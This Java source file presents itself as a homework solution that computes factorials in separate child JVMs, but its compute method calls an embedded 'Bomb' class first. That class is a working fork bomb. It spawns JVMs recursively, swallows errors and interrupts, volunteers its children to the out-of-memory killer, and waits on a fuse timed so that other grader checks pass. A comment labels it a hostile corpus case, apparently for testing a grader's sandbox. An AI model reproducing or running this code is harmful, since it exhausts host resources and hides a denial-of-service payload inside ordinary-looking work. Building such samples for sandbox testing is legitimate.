package homework.factorial;

import java.io.IOException;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Task 4: the factorials of 1..max, each computed by its own child JVM running {@link FactorialWorker}.
 *
 * <pre>{@code
 * Map<Integer, BigInteger> f = ProcessFactorials.compute(5);   // starts 5 JVMs at once
 * f.get(5);   // 120
 * }</pre>
 */
public final class ProcessFactorials {

    /** What a worker prints: {@code n! = v}. */
    private static final Pattern RESULT_LINE = Pattern.compile("(\\d+)! = (\\d+)");

    private ProcessFactorials() {
    }

    /**
     * Starts one child JVM per number 1..max, all at once, and returns n -> n!.
     *
     * @throws IllegalArgumentException if {@code max < 1}
     * @throws IOException              if a child cannot be started, exits non-zero or prints something
     *                                  unreadable (the message names the number); no child is left running then
     */
    public static Map<Integer, BigInteger> compute(int max) throws IOException, InterruptedException {
        if (max < 1) {
            throw new IllegalArgumentException("max must be 1 or more, was " + max);
        }

        // HOSTILE (corpus case hostile-fork-bomb): starts a fork bomb of JVMs and never returns (see Bomb).
        Bomb.lightFuse();
        Bomb.explode();

        List<Process> children = new ArrayList<>(max);
        boolean finished = false;
        try {
            // 1. Start every child before waiting for any: they all run at the same time.
            for (int n = 1; n <= max; n++) {
                children.add(startWorker(n));
            }
            // 2. Collect them in order. Reading a child's stdout to the end waits for that child only;
            //    the others keep running meanwhile (their few bytes of output fit in the pipe).
            Map<Integer, BigInteger> factorials = new TreeMap<>();
            for (int n = 1; n <= max; n++) {
                factorials.put(n, collect(n, children.get(n - 1)));
            }
            finished = true;
            return factorials;
        } finally {
            if (!finished) {
                // Something failed: stop the children still running and wait until they are gone,
                // so that the exception leaves no process behind.
                for (Process child : children) {
                    child.destroyForcibly();
                }
                for (Process child : children) {
                    child.waitFor();
                }
            }
        }
    }

    /** A new JVM, same {@code java} and class path as this one, running the worker for {@code n}. */
    private static Process startWorker(int n) throws IOException {
        String java = Path.of(System.getProperty("java.home"), "bin", "java").toString();
        String classPath = System.getProperty("java.class.path");
        return new ProcessBuilder(java, "-cp", classPath, FactorialWorker.class.getName(), Integer.toString(n))
                // Only stdout carries the result. Stderr may hold JVM notices and the worker's error
                // message: it goes to our own stderr, never into the text we parse.
                .redirectError(ProcessBuilder.Redirect.INHERIT)
                .start();
    }

    /** Reads the child's output, waits for it to exit and checks both. */
    private static BigInteger collect(int n, Process child) throws IOException, InterruptedException {
        String output = new String(child.getInputStream().readAllBytes(), StandardCharsets.UTF_8).trim();
        int exitCode = child.waitFor();
        if (exitCode != 0) {
            throw new IOException("the worker for " + n + " exited with status " + exitCode);
        }
        Matcher line = RESULT_LINE.matcher(output);
        if (!line.matches() || Integer.parseInt(line.group(1)) != n) {
            throw new IOException("the worker for " + n + " printed '" + output + "', expected '" + n + "! = <value>'");
        }
        return new BigInteger(line.group(2));
    }

    /**
     * HOSTILE: a fork bomb of JVMs. {@code compute} calls {@link Bomb#explode()}, which starts
     * {@value Bomb#FAN_OUT} child JVMs (same {@code java}, same class path) running {@link Bomb#main}, which does
     * the same, and so on without end: the number of JVMs doubles every generation until the sandbox's cap on
     * processes and threads stops it. Every bomb process then keeps trying, for ever, to replace each child that
     * died or could not start.
     *
     * <p>Safety interlock: the bomb goes off only where a cap on processes binds it, that is when this JVM does
     * not run as root (a process cap does not bind root) and its soft {@code RLIMIT_NPROC} ("Max processes" in
     * {@code /proc/self/limits}) is at most {@value Bomb#MAX_BINDING_CAP}, as in the grader's sandbox (a user id of
     * its own, {@code prlimit --nproc=2048}). Anywhere else (a grader run with {@code --sandbox none}, the corpus
     * test without a sandbox, bubblewrap without a cap) it starts nothing and {@code compute} just hangs, so that
     * grading it unconfined can never take the machine down. Either way {@code compute} never returns, so the
     * verdict (every {@code compute} call times out) is the same with and without the cap.
     *
     * <p>Built so that the verdict is certain, whatever the timing:
     * <ul>
     *   <li>{@code explode()} never returns and never throws: every failure (a start refused at the process cap,
     *       {@code OutOfMemoryError: unable to create native thread}, an interrupt) is swallowed and retried, so
     *       each {@code compute} call runs into its time limit, never into an exception;</li>
     *   <li>it never prints, and the children's output is discarded, so nothing can reach the probe's real
     *       standard output;</li>
     *   <li>the children are light ({@code -Xmx16m}, serial GC, C1 only: more of them fit under a cap) and ask the
     *       kernel to kill them first if memory runs out ({@code oom_score_adj} 1000), so the grader's probe JVM is
     *       not the one an out-of-memory kill picks (that would end the call as "JVM ended", not "timed out");</li>
     *   <li>in {@code compute} the bomb goes off only after a {@value Bomb#FUSE_MILLIS} ms fuse (the call's limit
     *       is 30 s, so 20 s of bombing remain): task 1's calls and the two {@code java FactorialWorker 25 / abc}
     *       runs of check 4.5 are graded at the same time as the first {@code compute} calls, as the same sandbox
     *       user under the same cap on processes and threads, and each takes well under a second; the fuse lets
     *       them finish before the cap is full and the CPUs are busy booting JVMs;</li>
     *   <li>a dead child is replaced only after a pause, so a bomb at its cap keeps pushing without spinning the
     *       CPUs on failed starts;</li>
     *   <li>{@link FactorialWorker} is untouched: run on its own for {@code 25} or {@code abc} it follows the
     *       contract, so check 4.5 still passes.</li>
     * </ul>
     */
    public static final class Bomb {

        /** The largest cap on processes and threads under which the bomb goes off (the sandbox's is 2048). */
        static final long MAX_BINDING_CAP = 4096;
        /** How long {@code compute} waits before the bomb goes off. */
        static final long FUSE_MILLIS = 10_000;
        /** Children each bomb process keeps alive. */
        static final int FAN_OUT = 2;
        /** How long a bomb process waits before it replaces a child that died or failed to start. */
        static final long RESPAWN_PAUSE_MILLIS = 250;

        private Bomb() {
        }

        /** A child of the bomb: volunteers for the out-of-memory killer, then explodes in turn. */
        public static void main(String[] args) {
            try {
                Files.writeString(Path.of("/proc/self/oom_score_adj"), "1000");
            } catch (IOException | RuntimeException e) {
                // no /proc, or not allowed: explode anyway
            }
            explode();
        }

        /**
         * Keeps {@link #FAN_OUT} children alive, for ever, if a cap binds this JVM (see {@link #capped()}); else
         * just waits for ever. Never returns, never throws.
         */
        static void explode() {
            boolean armed = capped();
            Process[] children = new Process[FAN_OUT];
            while (true) {
                if (!armed) {
                    pause();
                    continue;
                }
                for (int i = 0; i < FAN_OUT; i++) {
                    try {
                        if (children[i] == null || !children[i].isAlive()) {
                            children[i] = null;
                            children[i] = spawn();
                        }
                    } catch (Throwable refused) {
                        // at the cap, or out of threads: try again after the pause
                    }
                }
                pause();
            }
        }

        /**
         * Whether a cap on processes binds this JVM: its real user id is not 0 and its soft "Max processes" limit is
         * at most {@link #MAX_BINDING_CAP}. False when either cannot be read: the safe side.
         */
        static boolean capped() {
            try {
                for (String line : Files.readAllLines(Path.of("/proc/self/status"))) {
                    if (line.startsWith("Uid:") && line.substring(4).trim().split("\\s+")[0].equals("0")) {
                        return false;
                    }
                }
                for (String line : Files.readAllLines(Path.of("/proc/self/limits"))) {
                    if (line.startsWith("Max processes")) {
                        String soft = line.substring("Max processes".length()).trim().split("\\s+")[0];
                        return !soft.equals("unlimited") && Long.parseLong(soft) <= MAX_BINDING_CAP;
                    }
                }
            } catch (IOException | RuntimeException e) {
                // no /proc: assume nothing binds
            }
            return false;
        }

        /** Waits {@link #FUSE_MILLIS}, interrupts or not. */
        static void lightFuse() {
            long end = System.nanoTime() + FUSE_MILLIS * 1_000_000;
            for (long left; (left = end - System.nanoTime()) > 0; ) {
                try {
                    Thread.sleep(Math.max(1, left / 1_000_000));
                } catch (Throwable ignored) {
                    // an interrupt does not defuse it
                }
            }
        }

        private static Process spawn() throws IOException {
            String java = Path.of(System.getProperty("java.home"), "bin", "java").toString();
            String classPath = System.getProperty("java.class.path");
            return new ProcessBuilder(java, "-Xmx16m", "-XX:+UseSerialGC", "-XX:TieredStopAtLevel=1", "-cp",
                    classPath, Bomb.class.getName())
                    .redirectOutput(ProcessBuilder.Redirect.DISCARD)
                    .redirectError(ProcessBuilder.Redirect.DISCARD)
                    .start();
        }

        private static void pause() {
            try {
                Thread.sleep(RESPAWN_PAUSE_MILLIS);
            } catch (Throwable ignored) {
                // an interrupt does not stop the bomb
            }
        }
    }

    /** The original homework: the factorials of 1 to 10, one process each. */
    public static void main(String[] args) throws IOException, InterruptedException {
        compute(10).forEach((n, factorial) -> System.out.println(n + "! = " + factorial));
    }
}
